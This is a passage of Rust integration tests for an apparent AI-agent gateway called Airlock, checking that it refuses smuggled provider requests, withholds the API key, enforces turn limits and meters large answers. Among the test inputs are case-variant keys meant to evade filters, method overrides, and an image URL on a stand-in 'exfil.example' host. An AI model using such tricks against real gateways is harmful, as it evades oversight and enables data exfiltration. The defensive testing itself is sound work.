        ),
        format!(
            r#"{{{head}, {hi}, "mcp_Servers": [{{"type": "url", "url": "https://x.example/mcp", "name": "x"}}]}}"#
        ),
        format!(
            r#"{{{head}, {hi}, "tools": [{{"Type": "web_fetch_20250910", "name": "web_fetch"}}]}}"#
        ),
        format!(
            r#"{{{head}, "messages": [{{"role": "user", "content": [{{"Type": "image", "source": {{"type": "url", "url": "https://exfil.example/p.png"}}}}]}}]}}"#
        ),
    ];
    let own = format!(
        r#"{{{head}, {hi}, "tools": [{{"name": "Read", "input_schema": {{"type": "object", "properties": {{"Model": {{"type": "string"}}}}}}}}]}}"#
    );
    let mut steps: Vec<Value> = bodies
        .iter()
        .map(|b| json!({"op": "call", "api": "anthropic", "raw": b}))
        .collect();
    steps.push(json!({"op": "call", "api": "anthropic", "raw": own}));
    let (run, lines) = run_steps(&h, "code", "tess", &json!(steps));
    for i in 0..bodies.len() {
        let l = step(&lines, i);
        assert_eq!(l["status"], 400, "step {i}: {l}");
        assert_eq!(l["error_type"], "invalid_request_error", "step {i}: {l}");
    }
    assert_eq!(step(&lines, 4)["status"], 200, "{}", step(&lines, 4));
    let (_, lines) = run_steps(
        &h,
        "review",
        "rex",
        &json!([{"op": "call", "api": "openai", "model": "gpt-5-codex",
            "extra": {"Previous_Response_Id": "resp_1"}}]),
    );
    assert_eq!(step(&lines, 0)["status"], 400, "{}", step(&lines, 0));
    // Only the agent's own tool reached the provider.
    let sent = posts(&si);
    assert_eq!(sent.len(), 1, "{sent:?}");
    assert!(sent[0]["raw_body"].as_str().unwrap().contains("\"Model\""));
    let ev = provider_events(&run, 5);
    let rules: Vec<&str> = ev.iter().map(|e| field(e, "AIRLOCK_RULE")).collect();
    assert_eq!(&rules[..4], ["request: case"; 4], "{ev:?}");
    assert!(
        field(&ev[0], "MESSAGE").contains("body.tools: spelled in another case"),
        "{:?}",
        ev[0]
    );
}

#[test]
fn an_answer_that_echoes_the_real_key_reaches_the_agent_with_it_withheld() {
    require_journald();
    let si = StandIn::start();
    let h = host(&si);
    let model = "claude-sonnet-4-5";
    let steps = json!([
        {"op": "call", "api": "anthropic", "model": model, "mode": "echo"},
        {"op": "call", "api": "anthropic", "model": model, "mode": "echo", "stream": true},
    ]);
    let (run, lines) = run_steps(&h, "code", "tess", &steps);
    let steps = json!([
        {"op": "call", "api": "openai", "model": "gpt-5-codex", "mode": "echo", "stream": true},
        {"op": "call", "api": "openai", "model": "gpt-5-codex", "mode": "echo"},
    ]);
    let (orun, olines) = run_steps(&h, "review", "rex", &steps);
    let mark = "[withheld by Airlock]";
    for l in lines.iter().chain(&olines) {
        assert_eq!(l["status"], 200, "{l}");
        let seen = l.to_string();
        assert!(!seen.contains(&si.key), "the key reached the agent: {seen}");
        assert_eq!(l["headers"]["x-echo-key"], mark, "{l}");
        assert!(
            seen.contains(&format!("the key I was sent is {mark}")),
            "{seen}"
        );
    }
    // The answers were metered all the same, and the withholding journaled.
    let ev = provider_events(&run, 2);
    assert!(ev
        .iter()
        .all(|e| field(e, "AIRLOCK_COST_MICRO_USD") == ANTHROPIC_COST.to_string()));
    for (r, route, n) in [(&run, "provider claude", 2), (&orun, "provider codex", 2)] {
        let w = events(r, "withheld", n);
        assert_eq!(w.len(), n, "{w:?}");
        for e in &w {
            assert_eq!(field(e, "AIRLOCK_ROUTE"), route);
            assert_eq!(field(e, "AIRLOCK_WITHHELD_HEADERS"), "1");
            assert!(num(e, "AIRLOCK_WITHHELD_BODY") >= 1, "{e}");
        }
        assert!(!journal_text(r).contains(&si.key));
    }
}

#[test]
fn method_overrides_get_bodies_queries_and_encoded_bodies_are_refused() {
    require_journald();
    let si = StandIn::start();
    let h = host(&si);
    let model = "claude-sonnet-4-5";
    let opus = r#"{"model": "claude-opus-4-1", "max_tokens": 600, "messages": [{"role": "user", "content": "hi"}]}"#;
    let steps = json!([
        {"op": "call", "api": "anthropic", "model": model, "headers": {"X-HTTP-Method-Override": "GET"}},
        {"op": "call", "api": "anthropic", "method": "GET", "path": "/v1/models", "raw": opus},
        {"op": "call", "api": "anthropic", "model": model, "path": "/v1/messages?model=claude-opus-4-1"},
        {"op": "call", "api": "anthropic", "model": model, "gzip": true},
        {"op": "call", "api": "anthropic", "model": model, "path": "/v1/messages?beta=true"},
        {"op": "call", "api": "anthropic", "method": "GET", "path": "/v1/models?limit=5", "raw": null},
        // Priced above the table: refused as well.
        {"op": "call", "api": "anthropic", "model": model, "headers": {"anthropic-beta": "context-1m-2025-08-07"}},
    ]);
    let (run, lines) = run_steps(&h, "code", "tess", &steps);
    for i in 0..4 {
        assert_eq!(
            step(&lines, i)["status"],
            400,
            "step {i}: {}",
            step(&lines, i)
        );
    }
    assert_eq!(step(&lines, 4)["status"], 200, "{}", step(&lines, 4));
    assert_eq!(step(&lines, 5)["status"], 200, "{}", step(&lines, 5));
    assert_eq!(step(&lines, 6)["status"], 403, "{}", step(&lines, 6));
    let seen = si.requests();
    let paths: Vec<&str> = seen.iter().map(|r| r["path"].as_str().unwrap()).collect();
    assert_eq!(
        paths,
        ["/v1/messages?beta=true", "/v1/models?limit=5"],
        "{seen:?}"
    );
    assert!(seen
        .iter()
        .all(|r| r["raw_body"] == "" || r["method"] == "POST"));
    let ev = provider_events(&run, 7);
    let rules: Vec<&str> = ev.iter().map(|e| field(e, "AIRLOCK_RULE")).collect();
    assert_eq!(
        &rules[..4],
        [
            "request: method",
            "request: body",
            "endpoint",
            "request: encoding"
        ],
        "{ev:?}"
    );
    // A query that goes on is journaled with its endpoint.
    assert_eq!(
        field(&ev[4], "AIRLOCK_ENDPOINT"),
        "POST /v1/messages?beta=true"
    );
    assert_eq!(field(&ev[6], "AIRLOCK_RULE"), "price");

    let steps = json!([
        {"op": "call", "api": "openai", "model": "gpt-5-codex", "path": "/responses?stream=true"},
        {"op": "call", "api": "openai", "model": "gpt-5-codex", "headers": {"X-Method-Override": "DELETE"}},
        {"op": "call", "api": "openai", "model": "gpt-5-codex", "extra": {"service_tier": "priority"}},
    ]);
    let (_, lines) = run_steps(&h, "review", "rex", &steps);
    assert_eq!(step(&lines, 0)["status"], 400);
    assert_eq!(step(&lines, 1)["status"], 400);
    assert_eq!(step(&lines, 2)["status"], 403);
    assert_eq!(
        si.requests().len(),
        2,
        "refused requests never left the gateway"
    );
}

/// `run.max_turns` held by the gateway, whatever the agent: a `-- CMD` agent of a role with
/// `max_turns: 3` (on either API) has its fourth model request refused in the provider's own
/// unretried format, journaled with the rule, never forwarded; counting tokens is no turn;
/// `show` says `turns: 3 of 3`.
#[test]
fn the_model_request_past_run_max_turns_is_refused_whatever_the_agent() {
    require_journald();
    let si = StandIn::start();
    let h = host(&si);
    h.local_role("code", |t| {
        t.replace("  max_turns: 150\n", "  max_turns: 3\n")
    });
    h.local_role("review", |t| {
        t.replace("  max_turns: 80\n", "  max_turns: 3\n")
    });
    for (role, instance, api, model, status, kind) in [
        (
            "code",
            "tess",
            "anthropic",
            "claude-sonnet-4-5",
            403,
            "permission_error",
        ),
        (
            "review",
            "rex",
            "openai",
            "gpt-5-codex",
            429,
            "insufficient_quota",
        ),
    ] {
        let before = posts(&si).len();
        let call = json!({"op": "call", "api": api, "model": model, "stream": true});
        let mut steps = vec![call.clone(), call.clone()];
        if api == "anthropic" {
            steps.push(json!({"op": "call", "api": api, "model": model,
                               "path": "/v1/messages/count_tokens", "stream": false}));
        }
        steps.extend([call.clone(), call.clone(), call]);
        let (run, lines) = run_steps(&h, role, instance, &Value::Array(steps));
        let n = lines.len();
        for i in 0..n - 2 {
            assert_eq!(step(&lines, i)["status"], 200, "{role} step {i}: {lines:?}");
        }
        for i in n - 2..n {
            let refused = step(&lines, i);
            assert_eq!(refused["status"], status, "{role}: {refused}");
            assert_eq!(refused["error_type"], kind, "{role}: {refused}");
            assert!(
                refused["message"]
                    .as_str()
                    .is_some_and(|m| m.contains("run.max_turns 3")),
                "{role}: {refused}"
            );
        }
        let forwarded = posts(&si).len() - before;
        assert_eq!(
            forwarded,
            n - 2,
            "{role}: only three turns (and a count) left"
        );
        let ev = provider_events(&run, n);
        let denied: Vec<&Value> = ev
            .iter()
            .filter(|e| field(e, "AIRLOCK_DECISION") == "deny")
            .collect();
        assert_eq!(denied.len(), 2, "{role}: {ev:?}");
        assert!(denied
            .iter()
            .all(|e| field(e, "AIRLOCK_RULE") == "run.max_turns"));
        let spend = &show_json(&h, &run)["run"]["spend"];
        assert_eq!(spend["turns"], 3, "{role}: {spend}");
        assert_eq!(spend["max_turns"], 3, "{role}: {spend}");
        let o = h.ctl(&["show", &run]);
        assert!(
            stdout(&o).contains("3 of 3 (run.max_turns)"),
            "{}",
            stdout(&o)
        );
    }
}

/// Peak resident memory (VmHWM) of a process, in KiB.
fn peak_kib(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    let line = status.lines().find(|l| l.starts_with("VmHWM:")).unwrap();
    line.split_whitespace().nth(1).unwrap().parse().unwrap()
}

/// The bound the run's process (the gateway's, `airlockctl --standalone`) stays under.
const GATEWAY_PEAK_BOUND_KIB: u64 = 160 << 10;

/// M3 of the review of issue 29: a provider answer (a JSON body, and a streamed event) of
/// 14 MiB holding about 4.9 million empty objects is read for its usage without a JSON
/// value per object: the agent gets it whole, the usage is priced, and the gateway's
/// process stays under [`GATEWAY_PEAK_BOUND_KIB`].
#[test]
fn an_answer_of_millions_of_small_values_is_metered_in_bounded_memory() {
    require_journald();
    let si = StandIn::start();
    let h = host(&si);
    let model = "claude-sonnet-4-5";
    let steps = json!([
        {"op": "call", "api": "anthropic", "model": model, "stream": false, "mode": "many", "quiet": true},
        {"op": "call", "api": "anthropic", "model": model, "stream": true, "mode": "many", "quiet": true},
        {"op": "sleep", "ms": 1500},
    ]);
    let argv = provider_agent(&steps);
    let argv: Vec<&str> = argv.iter().map(String::as_str).collect();
    let mut run = h
        .launch("code", "tess", &[], &argv)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let pid = run.id();
    let mut lines = Vec::new();
    let mut peak = None;
    use std::io::BufRead;
    for l in std::io::BufReader::new(run.stdout.take().unwrap()).lines() {
        let Ok(v) = serde_json::from_str::<Value>(&l.unwrap()) else {
            continue;
        };
        if v["step"] == 2 {
            peak = Some(peak_kib(pid));
        }
        lines.push(v);
    }
    let o = run.wait_with_output().unwrap();
    assert!(o.status.success(), "{lines:?}\n{}", stderr(&o));
    assert_eq!(step(&lines, 0)["status"], 200, "{}", step(&lines, 0));
    assert!(step(&lines, 0)["body"]["bytes"].as_u64().unwrap() > 14 << 20);
    assert_eq!(step(&lines, 1)["text"], "hello from the stand-in");
    let run_id = run_id_of(&o);
    let priced: Vec<Value> = provider_events(&run_id, 2)
        .into_iter()
        .filter(|e| field(e, "AIRLOCK_DECISION") == "allow")
        .collect();
    assert_eq!(priced.len(), 2, "{priced:?}");
    for e in &priced {
        assert_eq!(
            field(e, "AIRLOCK_COST_MICRO_USD"),
            ANTHROPIC_COST.to_string(),
            "{e}"
        );
    }
    let peak = peak.expect("no sleep step");
    eprintln!("the gateway's peak resident memory: {} MiB", peak >> 10);
    assert!(
        peak < GATEWAY_PEAK_BOUND_KIB,
        "the gateway's process peaked at {} MiB (bound {} MiB)",
        peak >> 10,
        GATEWAY_PEAK_BOUND_KIB >> 10
    );
}
